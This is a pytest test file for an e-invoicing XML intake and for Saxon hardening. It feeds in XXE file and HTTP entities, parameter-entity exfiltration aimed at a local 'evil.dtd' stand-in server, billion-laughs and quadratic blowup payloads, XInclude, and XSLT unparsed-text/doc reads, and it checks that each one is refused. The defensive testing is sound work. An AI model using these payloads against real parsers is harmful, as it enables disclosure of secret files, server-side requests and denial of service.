"""Hostile XML at the intake and in Saxon: nothing is read, fetched or expanded.

A local listening socket stands in for an attacker's server: every test that points a
reference at it asserts afterwards that no connection arrived. A temporary file with a marker
stands in for a local secret: the marker must never show up in a parsed tree or a result.
"""

from __future__ import annotations

import socket
import subprocess
import sys
import threading
import tracemalloc
from collections.abc import Iterator
from pathlib import Path

import pytest

from einvoice.errors import DocumentTooLargeError, NotWellFormedError, UnsafeXmlError, UnsupportedDocumentError
from einvoice.parsers import safe_xml

MARKER = "SECRET-MARKER-7f3a"


class Listener:
    """A TCP server on 127.0.0.1 that records every connection it accepts."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port: int = self.sock.getsockname()[1]
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/evil.dtd"

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except (TimeoutError, OSError):
                continue
            self.connections += 1
            try:
                conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Type: text/xml\r\nContent-Length: 8\r\n\r\n<x>n</x>")
            finally:
                conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=2)
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(MARKER, encoding="utf-8")
    return path


def _invoice(body: str, prolog: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}'
        f'<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">{body}</Invoice>'
    ).encode()


def _refused(data: bytes) -> UnsafeXmlError:
    with pytest.raises(UnsafeXmlError) as info:
        safe_xml.parse_document(data)
    assert MARKER not in str(info.value)
    return info.value


# --- lxml intake ---------------------------------------------------------------------------------


def test_xxe_file_entity_is_refused_and_the_file_not_read(secret_file: Path) -> None:
    data = _invoice("<Note>&xxe;</Note>", f'<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "{secret_file.as_uri()}">]>\n')
    assert "DOCTYPE" in str(_refused(data))


def test_xxe_http_entity_is_refused_and_nothing_connects(listener: Listener) -> None:
    data = _invoice("<Note>&xxe;</Note>", f'<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "{listener.url}">]>\n')
    _refused(data)
    assert listener.connections == 0


def test_external_dtd_is_refused_and_nothing_connects(listener: Listener) -> None:
    _refused(_invoice("", f'<!DOCTYPE Invoice SYSTEM "{listener.url}">\n'))
    _refused(_invoice("", f'<!DOCTYPE Invoice PUBLIC "-//X//Y//EN" "{listener.url}">\n'))
    assert listener.connections == 0


def test_parameter_entities_are_refused(listener: Listener, secret_file: Path) -> None:
    prolog = (
        f'<!DOCTYPE Invoice [<!ENTITY % file SYSTEM "{secret_file.as_uri()}">'
        f'<!ENTITY % dtd SYSTEM "{listener.url}">%dtd;]>\n'
    )
    _refused(_invoice("<Note>&send;</Note>", prolog))
    assert listener.connections == 0


def test_billion_laughs_is_refused_without_expanding() -> None:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ]
    data = _invoice("<Note>&lol9;</Note>", "<!DOCTYPE Invoice [" + "".join(entities) + "]>\n")
    tracemalloc.start()
    try:
        _refused(data)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 5 * 1024 * 1024  # 10^9 'lol's were never built


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"])
def test_billion_laughs_in_wide_encodings_is_refused_by_the_prolog_scan(encoding: str) -> None:
    entities = '<!ENTITY a0 "lol">' + "".join(
        f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    )
    declared = encoding.upper().split("-")[0] + "-" + encoding.upper().split("-")[1]
    text = f'<?xml version="1.0" encoding="{declared}"?><!DOCTYPE a [{entities}]><a>&a9;</a>'
    with pytest.raises(UnsafeXmlError, match="DOCTYPE is not allowed"):
        safe_xml.parse(text.encode(encoding))


def test_quadratic_blowup_is_refused() -> None:
    big = "A" * 50_000
    data = _invoice("<Note>" + "&a;" * 1000 + "</Note>", f'<!DOCTYPE Invoice [<!ENTITY a "{big}">]>\n')
    _refused(data)


def test_xinclude_is_refused_and_the_file_not_read(secret_file: Path) -> None:
    body = (
        '<Note xmlns:xi="http://www.w3.org/2001/XInclude">'
        f'<xi:include href="{secret_file.as_uri()}" parse="text"/></Note>'
    )
    assert "XInclude" in str(_refused(_invoice(body)))


def test_xinclude_to_network_is_refused(listener: Listener) -> None:
    body = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{listener.url}"/>'
    _refused(_invoice(body))
    assert listener.connections == 0


def test_50_mb_document_is_refused_by_size_before_parsing() -> None:
    data = _invoice("<Note>" + "x" * (50 * 1024 * 1024) + "</Note>")
    tracemalloc.start()
    try:
        with pytest.raises(DocumentTooLargeError, match="document too large"):
            safe_xml.parse_document(data, max_bytes=10 * 1024 * 1024)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 1024 * 1024  # no copy, no tree


def test_100000_deep_nesting_is_refused_with_bounded_memory() -> None:
    depth = 100_000
    data = _invoice("<a>" * depth + "</a>" * depth)
    tracemalloc.start()
    try:
        error = _refused(data)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "nesting deeper than 256 levels" in str(error)
    # the document is 700 kB; what the refusal itself allocates is small (libxml2 stops early)
    assert peak < 2 * 1024 * 1024


_RSS_PROBE = """
import resource, sys
from einvoice.errors import UnsafeXmlError
from einvoice.parsers import safe_xml
depth = 1_000_000
data = b"<a>" * depth + b"</a>" * depth  # 7 MB: under the size limit
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
try:
    safe_xml.parse(data)
except UnsafeXmlError:
    pass
else:
    sys.exit("not refused")
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)
"""


def test_million_deep_nesting_does_not_grow_the_process() -> None:
    # tracemalloc does not see libxml2's C allocations, so measure the process's peak RSS instead.
    # A tree of 1,000,000 elements would need well over 100 MB; the refusal needs next to nothing.
    result = subprocess.run([sys.executable, "-c", _RSS_PROBE], capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    grown_kib = int(result.stdout.strip())
    assert grown_kib < 16 * 1024


def test_wide_but_shallow_document_within_limits_is_accepted() -> None:
    parsed = safe_xml.parse_document(_invoice("<Note>n</Note>" * 10_000))
    assert len(parsed.root) == 10_000


@pytest.mark.parametrize(
    "data",
    [
        b'<?xml version="1.0" encoding="UTF-8"?><Invoice>\xff\xfe</Invoice>',
        '<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>'.encode("utf-16-be"),
        b'<?xml version="1.0" encoding="UTF-16"?><Invoice/>',
        b'<?xml version="1.0" encoding="no-such-encoding"?><Invoice/>',
    ],
)
def test_wrong_encodings_are_not_well_formed(data: bytes) -> None:
    with pytest.raises(NotWellFormedError, match=r"^not well-formed: line \d+, column \d+: "):
        safe_xml.parse_document(data)


def test_utf8_bom_is_accepted() -> None:
    assert safe_xml.parse_document(b"\xef\xbb\xbf" + _invoice("")).document_type is safe_xml.DocumentType.INVOICE


@pytest.mark.parametrize("data", [b"", b"\x89PNG\r\n\x1a\n\x00\x00", b"hello"])
def test_empty_or_not_xml(data: bytes) -> None:
    with pytest.raises(NotWellFormedError):
        safe_xml.parse_document(data)


def test_cii_invoice_is_unsupported(corpus_dir: Path) -> None:
    data = (
        b'<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100">'
        b"<rsm:ExchangedDocumentContext/></rsm:CrossIndustryInvoice>"
    )
    with pytest.raises(UnsupportedDocumentError, match="CrossIndustryInvoice"):
        safe_xml.parse_document(data)


def test_ubl_order_from_the_corpus_is_unsupported(corpus_dir: Path) -> None:
    data = (corpus_dir / "peppol-2026.5" / "Order_Example.xml").read_bytes()
    with pytest.raises(UnsupportedDocumentError, match=r"Order-2\}Order .*not an invoice"):
        safe_xml.parse_document(data)


def test_every_corpus_invoice_passes_intake(corpus_dir: Path) -> None:
    paths = sorted((corpus_dir / "en16931-1.3.16" / "ubl" / "examples").glob("*.xml"))
    paths += sorted((corpus_dir / "peppol-bis3" / "rules" / "examples").glob("*.xml"))
    assert paths
    for path in paths:
        parsed = safe_xml.parse_document(path.read_bytes())
        assert parsed.document_type in (safe_xml.DocumentType.INVOICE, safe_xml.DocumentType.CREDIT_NOTE), path


# --- Saxon ---------------------------------------------------------------------------------------

saxonche = pytest.importorskip("saxonche")

_XSL = """<xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
<xsl:template match="/"><out><xsl:value-of select="{expr}"/></out></xsl:template></xsl:stylesheet>"""


def _run_in_saxon(expr: str, *, harden: bool) -> str:
    processor = saxonche.PySaxonProcessor(license=False)
    compiler = processor.new_xslt30_processor()
    executable = compiler.compile_stylesheet(stylesheet_text=_XSL.format(expr=expr))
    if harden:
        safe_xml.harden_saxon(processor)
    document = processor.parse_xml(xml_text="<r/>")
    return str(executable.transform_to_string(xdm_node=document))


def test_saxon_reads_local_files_when_not_hardened(secret_file: Path) -> None:
    # the control: proves the hardened test below would notice a read
    assert MARKER in _run_in_saxon(f"unparsed-text('{secret_file.as_uri()}')", harden=False)


def test_hardened_saxon_refuses_unparsed_text_of_a_file(secret_file: Path) -> None:
    with pytest.raises(saxonche.PySaxonApiError, match="prohibited"):
        _run_in_saxon(f"unparsed-text('{secret_file.as_uri()}')", harden=True)


def test_hardened_saxon_refuses_document_over_http(listener: Listener) -> None:
    with pytest.raises(saxonche.PySaxonApiError, match="prohibited"):
        _run_in_saxon(f"document('http://127.0.0.1:{listener.port}/')", harden=True)
    assert listener.connections == 0


def test_hardened_saxon_refuses_doc_of_a_file(secret_file: Path) -> None:
    secret_xml = secret_file.with_suffix(".xml")
    secret_xml.write_text(f"<s>{MARKER}</s>", encoding="utf-8")
    with pytest.raises(saxonche.PySaxonApiError, match="prohibited"):
        _run_in_saxon(f"doc('{secret_xml.as_uri()}')", harden=True)


def test_hardened_saxon_still_runs_a_compiled_stylesheet() -> None:
    assert "<out>1</out>" in _run_in_saxon("count(/r)", harden=True)
